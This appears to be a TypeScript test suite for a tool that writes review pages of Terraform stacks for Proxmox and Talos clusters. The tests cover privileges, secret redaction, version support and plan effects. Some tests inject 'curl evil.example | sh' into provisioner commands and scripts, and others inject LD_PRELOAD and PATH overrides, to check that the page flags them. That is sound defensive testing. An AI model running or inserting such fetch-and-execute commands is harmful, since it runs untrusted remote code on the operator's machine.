import { CiliumInstall } from "../constructs";
import { aclCommands, grantsFor, type ProxmoxUse, roleCommand } from "../constructs/proxmox/privileges";
import { commandOf } from "../constructs/terraform/script";
import { pageOf } from "../review/page";
import { changesOf, summaryOf } from "../review/plan";
import { pathsOf, proxmoxUsesOf, rootOnly, unknownTo } from "../review/privilege";
import { change, losing, measure, planOf, secret, withoutFingerprint } from "./review.fixtures";
import { ownScripts } from "./script-files";
import { nodeIn, synthesizedJson, vmIn } from "./stacks";
import { type Stack, synthesize } from "./synthesized";

interface Step {
  command: string;
  environment: Record<string, string>;
}

/** As long as one is. */
const wireguardKey = Buffer.from(secret.padEnd(32, "-")).toString("base64");

const patchesWithSecrets = [
  {
    machine: {
      registries: { config: { "ghcr.io": { auth: { username: "me", password: secret, auth: secret } } } },
      network: { interfaces: [{ interface: "wg0", wireguard: { privateKey: wireguardKey, peers: [] } }] },
      env: { http_proxy: `http://u:${secret}@proxy:3128`, PASS: secret },
    },
    cluster: { apiServer: { extraArgs: { "oidc-client-secret": secret } } },
  },
  {
    apiVersion: "v1alpha1",
    kind: "ExtensionServiceConfig",
    name: "tailscale",
    environment: [`TS_AUTHKEY=tskey-${secret}`],
  },
];

const page = (name: string, stack: Stack, plan?: Parameters<typeof pageOf>[4], scripts = ownScripts()) =>
  withoutFingerprint(pageOf(name, stack, scripts, measure, plan));

const onEvery: readonly ProxmoxUse[] = ["vm", "network", "cloudInit", "guestAgent", "hostFacts"];

describe.each<[file: string, name: string, uses: readonly ProxmoxUse[], rootOnly: readonly string[]]>([
  ["examples/default.ts", "talos-gpu", ["image"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
  ["examples/mapping.ts", "talos-gpu-mapping", ["image", "mappedDevice", "mapping"], []],
  [
    "examples/template.ts",
    "talos-gpu-template",
    ["clone", "cdrom"],
    ["proxmox_virtual_environment_vm.talos_node.hostpci"],
  ],
  ["examples/golden-image.ts", "workstation", ["clone", "cdrom", "mappedDevice"], []],
  ["examples/own-stack.ts", "own-stack", ["image", "mappedDevice"], []],
  ["examples/sharing.ts", "talos-gpu-sharing", ["image"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
  ["examples/cluster.ts", "talos-cluster", ["image", "mappedDevice", "mapping"], []],
  ["examples/intel-media.ts", "talos-intel-media", ["image"], ["proxmox_virtual_environment_vm.talos_node.hostpci"]],
  [
    "examples/amd-inference.ts",
    "talos-amd-inference",
    ["image"],
    ["proxmox_virtual_environment_vm.talos_node.hostpci"],
  ],
])("the review of %s", (file, name, uses, roots) => {
  const stack = () => synthesize(file)[name] ?? {};

  test("is its golden page", () => {
    expect(page(name, stack())).toMatchSnapshot();
  });

  test("is the same on every run, in whatever order its JSON is", () => {
    const reversed = (value: unknown): unknown =>
      typeof value !== "object" || value === null || Array.isArray(value)
        ? value
        : Object.fromEntries(
            Object.entries(value)
              .reverse()
              .map(([key, inside]) => [key, reversed(inside)]),
          );
    expect(page(name, reversed(stack()) as Stack)).toBe(page(name, stack()));
  });

  test("knows what everything in it is and needs", () => {
    expect(unknownTo(stack())).toEqual([]);
    expect(page(name, stack())).not.toMatch(/unknown to this page|not of this project/);
  });

  test("has the rights of what it does, and no others", () => {
    expect([...proxmoxUsesOf(stack())].sort()).toEqual([...onEvery, ...uses].sort());
    expect(rootOnly(stack())).toEqual(roots);
    const grants = ([8, 9] as const).map((major) => grantsFor(proxmoxUsesOf(stack()), pathsOf(stack()), major));
    const commands = grants.flatMap((each) => [...each.map(roleCommand), ...aclCommands("terraform@pve", each)]);
    const text = page(name, stack());
    expect(commands.filter((command) => !text.includes(`\n${command}\n`))).toEqual([]);
  });
});

describe("a page", () => {
  test("tells of a backup job with its rights, and of a file with the cluster's secrets", () => {
    const stack = synthesizedJson((stack) => {
      vmIn(stack, { backup: { datastore: "nas", keep: { last: 3 } } });
      nodeIn(stack, { secretsFile: true });
    });
    const text = page("s", stack);
    expect(text).toMatch(
      /\| `proxmox_backup_job[.]talos_node` \| job `vm-.*` that backs up to the storage `nas`, at `02:00` \|/,
    );
    expect(proxmoxUsesOf(stack)).toContain("backup");
    expect(text).toContain(
      "| `../../../clusters/talos-gpu/secrets.yaml` | `local_file.secrets` | the cluster's CAs, keys and tokens | `0600` |",
    );
    expect(text).not.toContain("unknown to this page");
  });

  test("says of a type that no table knows that it is unknown, and does not leave it out", () => {
    const text = page("s", { resource: { proxmox_made_up: { thing: {} } } });
    expect(text).toContain("| `proxmox_made_up.thing` | unknown to this page");
    expect(text).toContain("**Unknown: what `proxmox_made_up.thing` needs is not part of these lines.**");
  });

  test("escapes what Markdown would read", () => {
    const text = page("a|b *c*", {
      variable: { token: { sensitive: true, description: "a | b\n`c` <d> *e*" } },
      resource: { local_file: { f: { filename: "x|y`z", file_permission: "0644" } } },
    });
    expect(text).toContain("# Review of a|b \\*c\\*\n");
    expect(text).toContain("| `token` | a \\| b \\`c\\` \\<d\\> \\*e\\* |");
    expect(text).toContain("file `` x\\|y`z ``");
  });

  test("shows no default of a sensitive variable, and no value of a command's environment", () => {
    const text = page("s", {
      variable: { token: { sensitive: true, default: secret } },
      resource: {
        null_resource: {
          own: { provisioner: [{ "local-exec": { command: "true", environment: { TOKEN: secret } } }] },
        },
      },
    });
    expect(text).toContain("`TOKEN`");
    expect(text).not.toContain(secret);
  });

  test("shows no secret of a patch or of a chart's values, and what is no secret beside it", () => {
    const text = page(
      "s",
      synthesizedJson((stack) => {
        const node = nodeIn(stack, { configPatches: patchesWithSecrets });
        new CiliumInstall(stack, "cilium", {
          node,
          values: {
            hubble: { tls: { server: { key: secret, cert: "certificate-in-clear" } } },
            envoy: { extraEnv: [{ name: "A_TOKEN", value: secret }] },
            tolerations: [{ key: "label-in-clear", operator: "Exists" }],
          },
        });
      }),
    );
    for (const hidden of [secret, wireguardKey]) expect(text).not.toContain(hidden);
    for (const shown of ["ghcr.io", "wg0", "TS_AUTHKEY", "certificate-in-clear", "label-in-clear"]) {
      expect(text).toContain(shown);
    }
  });

  test("shows a command in full that is not the constructs', even where one of theirs was changed", () => {
    const stack = structuredClone(synthesize("examples/default.ts")["talos-gpu"]) as {
      resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": { command: string } }] } } };
    };
    expect(page("s", stack)).not.toContain("curl");
    stack.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"].command +=
      "; curl evil.example | sh\n";
    const text = page("s", stack);
    expect(text).toContain("| `local-exec`,<br>by `curl` | **not of this project's constructs** |");
    expect(text).toMatch(/^```sh\n[^`]*curl evil\.example \| sh\n```$/m);
  });

  test.each(["wait-for-kubernetes.sh", "lib.sh"])("shows %s in full where it is not the project's own", (name) => {
    const stack = synthesize("examples/default.ts")["talos-gpu"] ?? {};
    const scripts = ownScripts();
    scripts.set(name, `${scripts.get(name)}curl evil.example | sh\n`);
    const text = page("s", stack, undefined, scripts);
    expect(text).toMatch(/wait_for_kubernetes` \|.*\*\*not of this project's constructs\*\*/);
    expect(text).toContain(`\`assets/scripts/${name}\`, **not as this project has it**:`);
    expect(text).toMatch(/^curl evil\.example \| sh\n```$/m);
  });

  test("does not know a script that is missing, has another interpreter or runs elsewhere", () => {
    const stack = synthesize("examples/default.ts")["talos-gpu"] as never as {
      resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": object }] } } };
    };
    const unknown = /wait_for_kubernetes` \|.*\*\*not of this project's constructs\*\*/;
    const scripts = ownScripts();
    scripts.delete("lib.sh");
    expect(page("s", stack as never as Stack, undefined, scripts)).toMatch(unknown);
    for (const more of [{ interpreter: ["/tmp/sh", "-c"] }, { working_dir: "/tmp" }]) {
      const changed = structuredClone(stack);
      Object.assign(changed.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"], more);
      expect(page("s", changed as never as Stack)).toMatch(unknown);
    }
  });

  test.each(["PATH", "TMPDIR", "LD_PRELOAD"])("does not know a script with the variable %s", (name) => {
    const stack = structuredClone(synthesize("examples/default.ts")["talos-gpu"]) as never as {
      resource: { null_resource: { wait_for_kubernetes: { provisioner: [{ "local-exec": Step }] } } };
    };
    const step = stack.resource.null_resource.wait_for_kubernetes.provisioner[0]["local-exec"];
    step.environment = { ...step.environment, [name]: "/tmp/evil" };
    step.command = commandOf({ file: "wait-for-kubernetes.sh", environment: step.environment });
    expect(page("s", stack as never as Stack)).toMatch(
      /wait_for_kubernetes` \|.*\*\*not of this project's constructs\*\*/,
    );
  });

  test("tells of a file with a secret that others can read", () => {
    const stack = structuredClone(synthesize("examples/default.ts")["talos-gpu"]) as {
      resource: { local_file: { kubeconfig: { file_permission: string } } };
    };
    expect(page("s", stack)).not.toContain("readable by others");
    stack.resource.local_file.kubeconfig.file_permission = "0644";
    expect(page("s", stack)).toContain("`0644` **readable by others**");
  });

  test("says that a secret of a resource is in the state, and one of a provider is not", () => {
    const text = page("s", {
      variable: { both: { sensitive: true }, one: { sensitive: true } },
      provider: { proxmox: [{ password: "${var.one}" }] },
      resource: { made_up: { thing: { attribute: "${var.both}" } } },
    });
    expect(text).toContain("| `both` | – | `made_up.thing` | **state**, and every plan file |");
    expect(text).toContain("| `one` | – | `provider.proxmox` | every plan file; not the state |");
  });

  test.each([
    [
      "v1.14.7",
      "1.36.1",
      "| `v1.14.7` | maintained until 2026-12-27 (planned), tested with Kubernetes 1.33 to 1.37 |",
      "| `1.36.1` | maintained until 2027-06-28 (planned) |",
    ],
    [
      "v1.12.1",
      "1.33.1",
      "**no longer maintained since 2026-04-27; move to 1.13.12, then 1.14.7**",
      "move to 1.34.13, then 1.35.10",
    ],
    ["v1.10.0", "1.35.4", "**version", "| `1.35.4` |"],
    [
      "v1.14.7",
      "1.12.0",
      "works, untested together: its makers test it with Kubernetes 1.33 to 1.37",
      "**kubernetesVersion",
    ],
    ["${var.talos}", "1.35.4", "| `${var.talos}` | decided at plan |", "| `1.35.4` | decided at plan |"],
  ])(
    "judges Talos %s with Kubernetes %s by the rules and by the table of lives",
    (talos_version, kubernetes_version, ...verdicts) => {
      const text = page("s", {
        data: { talos_machine_configuration: { node: { talos_version, kubernetes_version } } },
      });
      for (const verdict of verdicts) expect(text).toContain(verdict);
    },
  );

  const cluster = (ciliumVersion: string, kubernetes_version: string): Stack => ({
    data: { talos_machine_configuration: { node: { talos_version: "v1.14.7", kubernetes_version } } },
    resource: {
      helm_release: {
        cilium: { chart: "cilium", name: "cilium", version: ciliumVersion, repository: "https://helm.cilium.io/" },
      },
    },
  });

  test.each([
    [
      "1.18.12",
      "1.35.4",
      "works, untested together: its makers test it with Kubernetes 1.30 to 1.33; move to Cilium 1.19.8",
    ],
    ["1.18.12", "1.36.1", "its makers test it with Kubernetes 1.30 to 1.33; move to Cilium 1.19.8, then 1.20.3"],
    ["1.20.3", "1.37.1", "its makers test it with Kubernetes 1.33 to 1.36; move to Kubernetes 1.33 to 1.36"],
  ])("says with which Kubernetes Cilium %s is tested, not with %s, in red too", (version, kubernetes, words) => {
    const text = page("s", cluster(version, kubernetes));
    expect(text.match(/works, untested together/g)).toHaveLength(2);
    expect(text).toContain(words);
  });

  test("says nothing against Cilium with a Kubernetes that it is tested with", () => {
    const text = page("s", cluster("1.19.8", "1.35.10"));
    expect(text).toContain(
      "| `1.19.8` | maintained as one of the three newest minor versions, tested with Kubernetes 1.32 to 1.35 |",
    );
    expect(text).not.toContain("untested");
  });

  test("says the day, after which the same versions are no longer maintained", () => {
    const on = (day: string) => pageOf("s", cluster("1.19.8", "1.35.10"), ownScripts(), { ...measure, day });
    expect(on("2026-12-27")).toMatch(/\| what \| version \| on 2026-12-27 \|/);
    expect(on("2026-12-27")).not.toContain("no longer maintained");
    expect(on("2026-12-28")).toContain(
      "**no longer maintained since 2026-12-27 (planned); move to the next minor version of Talos, which is not known yet**",
    );
  });

  const upgraded = (address: string, before: object, after: object) =>
    planOf(change(address, { actions: ["delete", "create"], before, after }));
  const installer = (version: string) => ({
    triggers: { installer: `factory.talos.dev/nocloud-installer/abc:${version}` },
  });

  test.each([
    [
      upgraded("helm_release.cilium", { version: "1.18.12" }, { version: "1.20.3" }),
      "Cilium from 1.18.12 to 1.20.3 skips a minor version, and the apply refuses it: write `1.19.8` first, and apply",
    ],
    [
      upgraded("null_resource.upgrade_talos", installer("v1.11.6"), installer("v1.14.7")),
      "Talos from v1.11.6 to v1.14.7 skips a minor version, and the apply refuses it: write `v1.12.12`, then `v1.13.12` first",
    ],
    [
      upgraded(
        "null_resource.upgrade_kubernetes_first",
        { triggers: { version: "1.33.1" } },
        { triggers: { version: "1.35.10" } },
      ),
      "Kubernetes from 1.33.1 to 1.35.10 skips a minor version, and the apply refuses it: write `1.34.13` first",
    ],
  ])("tells of a plan that skips a minor version, in red", (plan, words) => {
    const [, red = ""] = page("s", {}, plan).split("> [!CAUTION]");
    expect(red.split("\n## ")[0]).toContain(words);
  });

  test.each([
    upgraded("helm_release.cilium", { version: "1.18.12" }, { version: "1.19.8" }),
    upgraded("helm_release.cilium", { version: "1.20.3" }, { version: "1.18.14" }),
    upgraded("helm_release.other", { version: "1.18.12" }, { version: "1.20.3" }),
    planOf(change("helm_release.cilium", { actions: ["create"], before: null, after: { version: "1.20.3" } })),
    upgraded("null_resource.upgrade_talos", installer("v1.13.9"), installer("v1.14.7")),
  ])("tells of no skipped minor version where none is", (plan) => {
    expect(page("s", {}, plan)).not.toContain("skips a minor version");
  });

  test("judges providers by the pins, and charts by what is known of them", () => {
    const chart = (chart: string, version?: string) => ({
      chart,
      name: chart,
      version,
      repository: "https://helm.cilium.io/",
    });
    const text = page("s", {
      terraform: {
        required_providers: { proxmox: { source: "bpg/proxmox", version: "0.111.0" }, random: { source: "random" } },
      },
      resource: { helm_release: { cilium: chart("cilium", "1.17.0"), other: chart("other") } },
    });
    expect(text).toContain("| provider bpg/proxmox | `0.111.0` | **the project is built for 0.112.0** |");
    expect(text).toContain("| provider random | `any` | **not of this project** |");
    expect(text).toMatch(/`1\.17\.0` \| \*\*version "1\.17\.0" is not supported/);
    expect(text).toContain("| `any` | **the newest at every apply: not fixed** |");
  });

  test("tells of checks that warn", () => {
    const text = page("s", {
      check: { memory: { assert: [{ condition: "${false}", error_message: "${var.a} of $${B} [host-memory]" }] } },
    });
    expect(text).toContain("| `host-memory` | `check.memory` | … of ${B} | warns |");
  });
});

describe("a plan", () => {
  const stack = () => synthesize("examples/default.ts")["talos-gpu"] ?? {};
  const effectsOf = (...changes: readonly unknown[]) =>
    changesOf(planOf(...changes)).map(({ effect, words }) => [effect, words]);
  const vm = "proxmox_virtual_environment_vm.vm";
  const updated = (before: unknown, after: unknown, address = vm) =>
    effectsOf(change(address, { actions: ["update"], before, after }));

  test("that loses a VM and secrets is told so before all else: its golden page", () => {
    const text = page("talos-gpu", stack(), losing);
    expect(text.slice(0, text.indexOf("## Beyond the project's own"))).toMatchSnapshot();
  });

  test("shows no secret", () => {
    expect(JSON.stringify(losing)).toContain(secret);
    expect(page("talos-gpu", stack(), losing)).not.toContain(secret);
  });

  test("is told the same on every run, in whatever order its changes are", () => {
    const changes = losing.resource_changes as unknown[];
    expect(page("s", {}, { ...losing, resource_changes: [...changes].reverse() })).toBe(page("s", {}, losing));
  });

  test("without changes is nothing", () => {
    const idle = planOf(change(vm, { actions: ["no-op"] }), change("data.a.b", { actions: ["read"] }));
    expect(summaryOf(changesOf(idle))).toBe("nothing changes");
    expect(page("s", {}, idle)).toContain("## What will change\n\nNothing.\n");
  });

  test.each([
    ["cpu", [{ cores: 1 }], [{ cores: 2 }], "restarted"],
    ["hostpci", [{ id: "a" }], [{ id: "b" }], "restarted"],
    ["network_device", [{ vlan_id: 0 }], [{ vlan_id: 5 }], "changed"],
    ["cdrom", [{ file_id: "a" }], [{ file_id: "b" }], "changed"],
    ["tags", ["a"], ["b"], "changed"],
    ["on_boot", true, false, "changed"],
    ["startup", [{ order: 1 }], [{ order: 2 }], "changed"],
    ["description", "a", "b", "changed"],
    ["timeout_create", 1, 2, "recorded"],
    ["made_up", "a", "b", "unknown"],
  ])("of a VM's %s has the effect of the table", (name, before, after, effect) => {
    expect(updated({ [name]: before }, { [name]: after })).toEqual([[effect, expect.stringContaining(name)]]);
  });

  test("of a list that is left out is none where it is empty now", () => {
    const before = { cpu: [{ cores: 8, flags: null }], tags: ["a"] };
    const after = { cpu: [{ cores: 8, flags: [] }], tags: ["b"] };
    expect(updated(before, after)).toEqual([["changed", expect.not.stringContaining("cpu")]]);
  });

  test.each([
    [
      "what Talos takes over at once",
      "machine: { sysctls: { a: '1' }, files: [] }\ncluster: { clusterName: b }",
      "changed",
    ],
    ["what it restarts for", "machine: { sysctls: { a: '1' }, files: [{ path: /var/a }] }", "restarted"],
    ["a document beside the machine's", "machine: { files: [] }\n---\nkind: HostnameConfig", "changed"],
    [
      "a rule of Talos's firewall",
      "machine: { files: [] }\n---\napiVersion: v1alpha1\nkind: NetworkRuleConfig\nname: management\ningress: [{ subnet: 10.0.0.0/8 }]",
      "changed",
    ],
    ["nothing that is known", undefined, "restarted"],
  ])("of a machine's configuration in %s", (_, text, effect) => {
    const configuration = (more: string) => `version: v1alpha1\n${more}\n`;
    const before = { machine_configuration: configuration("machine: { files: [] }") };
    const after = { machine_configuration: text && configuration(text) };
    const changes = updated(before, after, "talos_machine_configuration_apply.node");
    expect(changes).toEqual([[effect, expect.stringContaining("machine_configuration")]]);
  });

  test("of a disk is as bad as what becomes of it", () => {
    const disk = (size: number, more = {}) => ({ interface: "scsi0", size, ...more });
    expect(updated({ disk: [disk(100)] }, { disk: [disk(200)] })).toEqual([
      ["changed", expect.stringContaining("`scsi0` from 100 to 200 GiB")],
    ]);
    expect(updated({ disk: [disk(100)] }, { disk: [disk(100, { cache: "none" })] })).toEqual([
      ["pending", expect.stringContaining("`scsi0`")],
    ]);
    expect(updated({ disk: [disk(100)] }, { disk: [disk(100, { datastore_id: "other" })] })).toEqual([
      ["restarted", expect.stringContaining("`scsi0`")],
    ]);
    expect(updated({ disk: [disk(100)] }, { disk: [] })).toEqual([["lost", expect.stringContaining("`scsi0`")]]);
    expect(updated({ disk: [] }, { disk: [disk(1)] })).toEqual([["changed", expect.stringContaining("added")]]);
  });

  test.each([
    ["talos_machine_configuration_apply.node", "machine_configuration_input", "restarted"],
    ["helm_release.cilium", "values", "changed"],
    ["proxmox_hardware_mapping_pci.gpu", "map", "pending"],
    ["proxmox_virtual_environment_firewall_options.node", "macfilter", "changed"],
    ["proxmox_virtual_environment_firewall_rules.node", "rule", "changed"],
    ["talos_machine_secrets.cluster", "talos_version", "recorded"],
    ["null_resource.talos_node_identity", "triggers", "recorded"],
    ["terraform_data.talos_node_disks", "input", "recorded"],
    ["local_file.kubeconfig", "content", "changed"],
    ["unheard_of.thing", "what", "unknown"],
  ])("that updates %s by its %s", (address, attribute, effect) => {
    expect(updated({ [attribute]: "a" }, { [attribute]: "b" }, address)).toEqual([
      [effect, expect.stringContaining(attribute)],
    ]);
  });

  test.each([
    ["proxmox_virtual_environment_vm.vm", "lost", "lost"],
    ["talos_machine_secrets.cluster", "lost", "lost"],
    ["talos_machine_bootstrap.cluster", "lost", "recorded"],
    ["talos_machine_configuration_apply.node", "restarted", "recorded"],
    ["null_resource.upgrade_talos", "upgraded", "recorded"],
    ["null_resource.upgrade_kubernetes", "upgraded", "recorded"],
    ["null_resource.gpu_smoke_test", "changed", "recorded"],
    ["null_resource.talos_node_identity", "recorded", "recorded"],
    ["terraform_data.talos_node_known", "recorded", "recorded"],
    ["terraform_data.talos_node_disk", "recorded", "recorded"],
    ["null_resource.member", "lost", "lost"],
    ["null_resource.members", "recorded", "recorded"],
    ["proxmox_download_file.talos", "changed", "changed"],
    ["proxmox_virtual_environment_firewall_ipset.node_net0", "changed", "changed"],
    ["proxmox_virtual_environment_firewall_options.node", "changed", "recorded"],
    ["proxmox_virtual_environment_firewall_rules.node", "changed", "changed"],
    ["helm_release.cilium", "lost", "lost"],
    ["unheard_of.thing", "lost", "lost"],
  ])("that replaces or deletes %s", (address, replaced, deleted) => {
    for (const actions of [
      ["delete", "create"],
      ["create", "delete"],
    ])
      expect(effectsOf(change(address, { actions }))).toEqual([[replaced, expect.anything()]]);
    expect(effectsOf(change(address, { actions: ["delete"] }))).toEqual([[deleted, expect.anything()]]);
    expect(effectsOf(change(address, { actions: ["create"] }))).toEqual([["made", expect.anything()]]);
    expect(effectsOf(change(address, { actions: ["forget"] }))).toEqual([["recorded", expect.anything()]]);
  });

  test("says that an IP filter is away while it is recreated", () => {
    const filter = "proxmox_virtual_environment_firewall_ipset.node_net0";
    const replaced = change(filter, { actions: ["delete", "create"], replace_paths: [["cidr"]] });
    expect(effectsOf(replaced)).toEqual([["changed", expect.stringMatching(/for up to ten seconds .*`cidr`/)]]);
  });

  test("knows every type of resource that the constructs make", () => {
    const types = [
      "examples/default.ts",
      "examples/mapping.ts",
      "examples/template.ts",
      "examples/golden-image.ts",
      "examples/cluster.ts",
    ].flatMap((file) =>
      Object.values(synthesize(file)).flatMap(({ resource }) =>
        Object.entries(resource as Record<string, object>).flatMap(([type, named]) =>
          Object.keys(named).map((name) => `${type}.${name}`),
        ),
      ),
    );
    expect(types.length).toBeGreaterThan(20);
    for (const address of types)
      expect(effectsOf(change(address, { actions: ["delete"] }))).not.toEqual([
        [expect.anything(), expect.stringContaining("does not know")],
      ]);
  });
});
